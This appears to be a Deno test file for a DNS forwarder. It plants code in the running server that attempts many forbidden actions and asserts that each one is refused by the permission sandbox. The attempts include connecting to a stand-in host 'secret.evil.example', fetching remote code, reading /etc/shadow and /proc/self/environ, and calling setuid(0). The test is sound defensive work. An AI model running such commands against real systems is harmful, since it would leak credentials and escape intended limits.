/** What code that an attacker has planted in the running program can do: nothing that is not the policy's. */

import assert from "node:assert/strict";
import { join } from "node:path";
import { decodeReply } from "../support/decode.ts";
import { query } from "../support/packets.ts";
import { askOnce, fromSourceFor, ROOT, ServingProgram, writePolicy } from "../support/program.ts";

const SEND = 'await Deno.listenDatagram({ transport: "udp", hostname: "0.0.0.0", port: 0 }).send';

/** What is tried; the policy's upstream is 192.0.2.53, its clients are loopback. */
const ATTEMPTS: Readonly<Record<string, string>> = {
  "send elsewhere over UDP":
    `${SEND}(new Uint8Array(1), { transport: "udp", hostname: "192.0.2.66", port: 53 })`,
  "send to the upstream on another port":
    `${SEND}(new Uint8Array(1), { transport: "udp", hostname: "192.0.2.53", port: 54 })`,
  "send over IPv6":
    'await Deno.listenDatagram({ transport: "udp", hostname: "::", port: 0 }).send(new Uint8Array(1), { transport: "udp", hostname: "2001:db8::1", port: 53 })',
  "connect elsewhere over TCP": 'await Deno.connect({ hostname: "192.0.2.66", port: 443 })',
  "connect by name": 'await Deno.connect({ hostname: "secret.evil.example", port: 443 })',
  "connect to a unix socket": 'await Deno.connect({ transport: "unix", path: "/run/dbus/socket" })',
  "connect to systemd": 'await Deno.connect({ transport: "unix", path: "/run/systemd/notify" })',
  "connect by node:net": `await new Promise((_, reject) => {
      const socket = process.getBuiltinModule("node:net").connect(443, "192.0.2.66");
      socket.on("error", reject);
    })`,
  "send by node:dgram": `await new Promise((resolve, reject) => {
      const socket = process.getBuiltinModule("node:dgram").createSocket("udp4");
      socket.on("error", reject);
      socket.send("x", 53, "192.0.2.66", (error) => error ? reject(error) : resolve());
    })`,
  "resolve by node:dns": `await new Promise((resolve, reject) => {
      process.getBuiltinModule("node:dns").lookup("secret.evil.example", (error) => error ? reject(error) : resolve());
    })`,
  "listen for the world": 'Deno.listen({ hostname: "0.0.0.0", port: 5353 })',
  "listen for the world over UDP":
    'Deno.listenDatagram({ transport: "udp", hostname: "0.0.0.0", port: 5353 })',
  "ask another resolver":
    'await Deno.resolveDns("evil.example", "A", { nameServer: { ipAddr: "192.0.2.66" } })',
  "ask the system's resolver": 'await Deno.resolveDns("secret.evil.example", "A")',
  "fetch": 'await fetch("https://192.0.2.66/")',
  "open a WebSocket": 'new WebSocket("wss://192.0.2.66/")',
  "import from the web": 'await import("https://deno.land/x/" + "secret/mod.ts")',
  "import from JSR": 'await import("jsr:@secret/" + "secret")',
  "import from npm": 'await import("npm:fw-dns-has-no-such-package@" + "1.0.0")',
  "import a file": 'await import("/etc/" + "passwd")',
  "start a worker from the web":
    'await new Promise((resolve, reject) => { const worker = new Worker("https://deno.land/secret.js", { type: "module" }); worker.onerror = (event) => { event.preventDefault(); reject(new TypeError(event.message)); }; })',
  "read the accounts": 'await Deno.readTextFile("/etc/passwd")',
  "read the passwords": 'await Deno.readTextFile("/etc/shadow")',
  "read by node:fs": 'process.getBuiltinModule("node:fs").readFileSync("/etc/hostname")',
  "read of itself": 'await Deno.readTextFile("/proc/self/environ")',
  "list a folder": '[...Deno.readDirSync("/")]',
  "write a file": 'await Deno.writeTextFile("/tmp/fw-dns-attempt", "x")',
  "write beside the policy": 'await Deno.writeTextFile(Deno.args[2] + ".new", "x")',
  "write where systemd is": 'Deno.removeSync("/run/systemd/notify")',
  "run a program": 'await new Deno.Command("true").output()',
  "kill a process": 'Deno.kill(1, "SIGTERM")',
  "read the environment": 'Deno.env.get("PATH")',
  "read what systemd says": 'Deno.env.get("NOTIFY_SOCKET")',
  "ask for the user": "Deno.uid()",
  "become another user": "process.setuid(0)",
  "load a library": 'Deno.dlopen("libc.so.6", {})',
  "ask for more": `if ((await Deno.permissions.request({ name: "net" })).state !== "granted") {
      throw new Deno.errors.NotCapable("refused");
    }`,
};

/** How a refusal reads where it does not come as NotCapable: from an import, and from Node's modules. */
const REFUSALS =
  /Requires (import|read) access|--cached-only is specified|^getaddrinfo EPERM|^send UNKNOWN|^connect ECONNREFUSED/;

/** Starts the program, and at SIGUSR2 tries everything; a line for each: what, and how it ended. */
const PLANTED = `
  import process from "node:process";
  import { start } from "${ROOT}/main.ts";
  const attempts = { ${
  Object.entries(ATTEMPTS).map(([what, code]) => `${JSON.stringify(what)}: async () => { ${code} }`)
    .join(",\n")
} };
  Deno.addSignalListener("SIGUSR2", async () => {
    for (const [what, attempt] of Object.entries(attempts)) {
      try {
        await attempt();
        console.log(what + ": it could");
      } catch (error) {
        const isRefusal = error.name === "NotCapable" || ${REFUSALS}.test(error.message);
        console.log(what + ": " + (isRefusal ? "refused" : error.name + " " + error.message));
      }
    }
    console.log("all tried");
  });
  await start();
`;

Deno.test("under the printed flags, code planted in the running program is refused everything else", async (t) => {
  using policy = writePolicy(
    'allow = ["localhost"]\n[listen]\naddresses = ["127.0.0.1:0"]\n[[upstream]]\naddress = "192.0.2.53"\n',
  );
  const entry = join(policy.folder, "planted.ts");
  Deno.writeTextFileSync(entry, PLANTED);
  const program = await ServingProgram.start(
    await fromSourceFor(policy.file, entry),
    policy.file,
  );
  Deno.kill(program.pid, "SIGUSR2");
  await program.waitFor(/^all tried$/m);
  for (const what of Object.keys(ATTEMPTS)) {
    await t.step(what, () => {
      const line = program.out.split("\n").find((line) => line.startsWith(`${what}: `));
      assert.equal(line, `${what}: refused`);
    });
  }
  const reply = decodeReply(await askOnce(program.address, query({ name: "localhost" })));
  assert.deepEqual(reply.answers, ["127.0.0.1"]);
  assert.equal(await program.stop(), 0);
});

/** A checkout of its own, with a policy of its own. */
function copyCheckout(policy: string): string {
  const folder = Deno.makeTempDirSync({ prefix: "fw-dns-checkout-" });
  const args = ["-r", ...["main.ts", "src", "deno.json", "deno.lock"], folder];
  const { success } = new Deno.Command("cp", { args, cwd: ROOT }).outputSync();
  assert.ok(success);
  Deno.writeTextFileSync(join(folder, "policy.toml"), policy);
  return folder;
}

/** What `deno task start` says until it ends; as soon as it listens, it is told to. */
async function taskStart(policy: string): Promise<{ code: number; said: string }> {
  const folder = copyCheckout(policy);
  try {
    const task = new Deno.Command(Deno.execPath(), {
      args: ["task", "--quiet", "start"],
      cwd: folder,
      stdin: "null",
      stdout: "piped",
      stderr: "piped",
    }).spawn();
    let said = "";
    const read = async (stream: ReadableStream<Uint8Array>): Promise<void> => {
      const decoder = new TextDecoder();
      for await (const chunk of stream) {
        const isFirst = !said.includes("Listening on");
        said += decoder.decode(chunk, { stream: true });
        if (isFirst && said.includes("Listening on")) task.kill("SIGTERM");
      }
    };
    await Promise.all([read(task.stdout), read(task.stderr)]);
    return { code: (await task.status).code, said };
  } finally {
    Deno.removeSync(folder, { recursive: true });
  }
}

const START = '[listen]\naddresses = ["127.0.0.1:0"]\n[[upstream]]\naddress = "127.0.0.1:9"\n';

Deno.test("deno task start serves with no more than its policy needs", async () => {
  const { code, said } = await taskStart(
    `allow = ["a.example"]\n[sandbox]\nstrict = true\n${START}`,
  );
  assert.equal(code, 0, said);
  assert.match(said, /^good .*\nStarting fw-dns .*\n[^]*^Listening on 127\.0\.0\.1:\d+$/m);
});

Deno.test("deno task start does not start with a policy that is not good", async () => {
  const { code, said } = await taskStart(`nonsense = 1\n${START}`);
  assert.equal(code, 1);
  assert.match(said, /^policy\.toml:1:1: nonsense: unknown key/);
  assert.doesNotMatch(said, /Starting/);
});
